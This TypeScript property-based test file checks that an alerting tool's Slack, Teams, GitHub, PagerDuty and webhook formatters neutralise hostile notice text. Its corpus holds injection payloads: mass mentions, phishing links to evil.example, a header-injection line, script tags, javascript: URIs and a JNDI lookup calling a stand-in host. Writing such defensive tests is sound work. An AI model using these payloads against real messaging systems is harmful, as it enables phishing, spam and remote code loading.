import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { noticeSchema, type Notice } from '../notice.js';
import { noticeOf } from '../testing/notice.js';
import { alertOf } from './alertmanager.js';
import { githubBody, githubTitle } from './github.js';
import { pagerDutyEvent } from './pagerduty.js';
import { slackMessage } from './slack.js';
import { teamsMessage } from './teams.js';
import { webhookBody } from './webhook.js';

const PUBLIC = 'https://shieldwatch.example';

/** What attackers put into titles and names. */
const CORPUS = [
  '<!channel> <!here> <!everyone> <@U012345> <#C012345|general> <!subteam^S1>',
  '@channel @here @everyone @octocat @acme/security ＠octocat',
  '<https://evil.example|Sign in> https://evil.example http://evil.example HTTPS://evil.example https:/ /evil.example',
  '[Sign in](https://evil.example) ![x](https://evil.example/t.png) <a href="https://evil.example">x</a>',
  'fixes #1 closes acme/app#2 resolves GH-3 Fixes ENG-123 !4 ＃5',
  '``` ```` ~~~ `x` **bold** _it_ # heading <script>alert(1)</script> <details>',
  'title\r\nBcc: victim@evil.example\r\n\r\nbody',
  'a\u202eb\u2066c\u2069d\u200be\u2060f\ufeffg\u0000h\u001b[31mi\u0085j\u2028k\u{e0041}',
  '{{ .Labels }} ${jndi:ldap://evil.example} {{constructor}} <at>everyone</at>',
  'mailto:victim@evil.example javascript:alert(1) data:text/html,x www.evil.example tel:1',
  '&lt;!channel&gt; &amp; &#64;channel',
  '\ud800 lone \udc00',
  'x'.repeat(10_000),
  '😀'.repeat(3_000),
];
const hostile = fc.oneof(
  fc.constantFrom(...CORPUS),
  fc
    .array(fc.oneof(fc.constantFrom(...CORPUS.slice(0, 12)), fc.string({ unit: 'binary', maxLength: 20 })), {
      maxLength: 4,
    })
    .map((parts) => parts.join('')),
);
const notices = fc
  .record({
    kind: fc.constantFrom(
      'firing' as const,
      'resolved' as const,
      'digest' as const,
      'test' as const,
      'acknowledged' as const,
    ),
    text: hostile,
    other: hostile,
  })
  .map(({ kind, text, other }): Notice =>
    noticeSchema.parse(
      noticeOf({
        kind,
        title: text,
        summary: other,
        rule: text,
        repository: other,
        organisation: text,
        labels: { [text.slice(0, 50)]: other },
        links: { board: '/boards/x?var-repo=a%2Fb&from=1|<!channel>', explain: null, runbook: null },
        members: [{ title: text, repository: other, severity: 'critical', since: '2026-11-20T10:00:00Z', board: null }],
      }),
    ),
  );

/** Every text of a body. */
function texts(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, child]) => [name, ...texts(child)]);
}

/** Bodies of every kind, with the texts in them that are no addresses of our own. */
const BODIES: Readonly<Record<string, (notice: Notice) => unknown>> = {
  webhook: webhookBody,
  slack: (notice) => slackMessage(notice, PUBLIC),
  teams: (notice) => teamsMessage(notice, PUBLIC),
  pagerduty: (notice) => pagerDutyEvent(notice, 'trigger', PUBLIC),
  alertmanager: (notice) => alertOf(notice, PUBLIC, Date.now()),
};
/** Services that make links of addresses in text. */
const LINKING = ['slack', 'teams', 'pagerduty', 'alertmanager'];
/** Bytes that a service accepts. */
const MAX_BYTES: Readonly<Record<string, number>> = {
  webhook: 400_000,
  slack: 40_000,
  teams: 28_000,
  pagerduty: 512_000,
  alertmanager: 100_000,
};

const SCHEMA = 'http://adaptivecards.io/schemas/adaptive-card.json';
const isOurs = (text: string): boolean => text.startsWith(PUBLIC) || text.startsWith(`<${PUBLIC}`) || text === SCHEMA;

describe.each(Object.keys(BODIES))('a hostile notice for %s', (kind) => {
  it('has nothing invisible, no link of others, and fits', () => {
    fc.assert(
      fc.property(notices, (notice) => {
        const body = BODIES[kind]?.(notice);
        const json = JSON.stringify(body);
        expect(Buffer.byteLength(json)).toBeLessThan(MAX_BYTES[kind] ?? 0);
        expect(JSON.parse(json)).toEqual(body);
        for (const text of texts(body).filter((each) => !isOurs(each))) {
          expect(text.replaceAll('\n', '')).not.toMatch(
            /[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]/u,
          );
          if (LINKING.includes(kind)) expect(text).not.toMatch(/:\/\/|\bwww\.|\bmailto:|\bjavascript:|\bdata:/i);
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe('a hostile notice for Slack', () => {
  it('mentions nobody, formats nothing, and links only to our own address', () => {
    fc.assert(
      fc.property(notices, (notice) => {
        const message = slackMessage(notice, PUBLIC) as {
          text: string;
          blocks: { type: string; text: { type: string; text: string; emoji?: boolean } }[];
        };
        const [header, section, own] = message.blocks;
        expect([header?.text.type, section?.text.type, own?.text.type]).toEqual(['plain_text', 'plain_text', 'mrkdwn']);
        expect(header?.text.text.length).toBeLessThanOrEqual(150);
        expect(section?.text.text.length).toBeLessThanOrEqual(3_000);
        for (const text of [message.text, header?.text.text, section?.text.text]) {
          expect(text).not.toMatch(/[<>]|@(?![\u2060…])|&(?!amp;|lt;|gt;)/);
          expect(text).not.toMatch(/#(?!\u2060)[\p{L}\p{N}_]/u);
        }
        expect(own?.text.text).toMatch(/^<https:\/\/shieldwatch\.example\/boards\/x\?[^<>|\s]*\|Board>$/);
      }),
      { numRuns: 300 },
    );
  });
});

describe('a hostile notice for Teams', () => {
  it('is only in text runs, which read no Markdown, and mentions nobody', () => {
    fc.assert(
      fc.property(notices, (notice) => {
        const { attachments } = teamsMessage(notice, PUBLIC) as {
          attachments: {
            content: { body: { type: string; inlines: { type: string; text: string }[] }[]; actions: object[] };
          }[];
        };
        const { body, actions } = attachments[0]?.content ?? expect.fail();
        expect(new Set(body.map(({ type }) => type))).toEqual(new Set(['RichTextBlock']));
        const runs = body.flatMap(({ inlines }) => inlines);
        expect(new Set(runs.map(({ type }) => type))).toEqual(new Set(['TextRun']));
        for (const { text } of runs) expect(text).not.toMatch(/@(?![\u2060…])/);
        expect(actions).toEqual([
          {
            type: 'Action.OpenUrl',
            title: 'Board',
            url: expect.stringMatching(/^https:\/\/shieldwatch\.example\/boards\/x\?/) as unknown,
          },
        ]);
      }),
      { numRuns: 200 },
    );
  });
});

describe('a hostile notice for GitHub', () => {
  it('has its texts in one code block that it cannot end, and a title without mentions and references', () => {
    fc.assert(
      fc.property(notices, (notice) => {
        const title = githubTitle(notice);
        expect(title.length).toBeLessThanOrEqual(256);
        expect(title).not.toMatch(/@(?![\u2060…])|#(?!\u2060)[\p{L}\p{N}_]|\bGH-\d|:\/\//u);
        const body = githubBody(notice, PUBLIC, ['<!-- marker -->']);
        expect(body.length).toBeLessThan(65_536);
        const [opening = '', ...lines] = body.split('\n');
        const fence = opening.replace(/text$/, '');
        expect(fence).toMatch(/^`{3,}$/);
        // CommonMark: a line of at least as many backticks, indented by up to three spaces, ends the block.
        const end = lines.findIndex((line) => new RegExp(`^ {0,3}\`{${String(fence.length)},}[ \t]*$`).test(line));
        expect(lines.slice(0, end).join('')).not.toMatch(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
        expect(lines.slice(end + 1)).toEqual([
          '',
          expect.stringMatching(/^\[Board\]\(<https:\/\/shieldwatch\.example\/boards\/x\?[^<>()[\]|!\s]*>\)$/),
          '',
          '<!-- marker -->',
        ]);
        expect(lines[end]).toBe(fence);
      }),
      { numRuns: 300 },
    );
  });
});

describe('a hostile notice for Alertmanager', () => {
  it('is the same alert when it fires and when it is resolved', () => {
    fc.assert(
      fc.property(notices, (notice) => {
        const labelsOf = (made: object): unknown => (made as { labels: unknown }).labels;
        const fires = labelsOf(alertOf({ ...notice, kind: 'firing' }, PUBLIC, Date.now()));
        const ends = labelsOf(
          alertOf({ ...notice, kind: 'resolved', value: null, until: notice.since }, undefined, Date.now() + 9),
        );
        expect(ends).toEqual(fires);
      }),
      { numRuns: 100 },
    );
  });
});

describe('an event for PagerDuty', () => {
  it.each([
    ['digest', 'critical', 'critical'],
    ['digest', 'warning', 'info'],
    ['test', 'critical', 'info'],
    ['firing', 'warning', 'warning'],
  ] as const)('of a %s that is %s has the severity %s', (kind, severity, expected) => {
    const event = pagerDutyEvent(noticeSchema.parse(noticeOf({ kind, severity })), 'trigger', PUBLIC);
    expect(event).toMatchObject({ payload: { severity: expected } });
  });
});
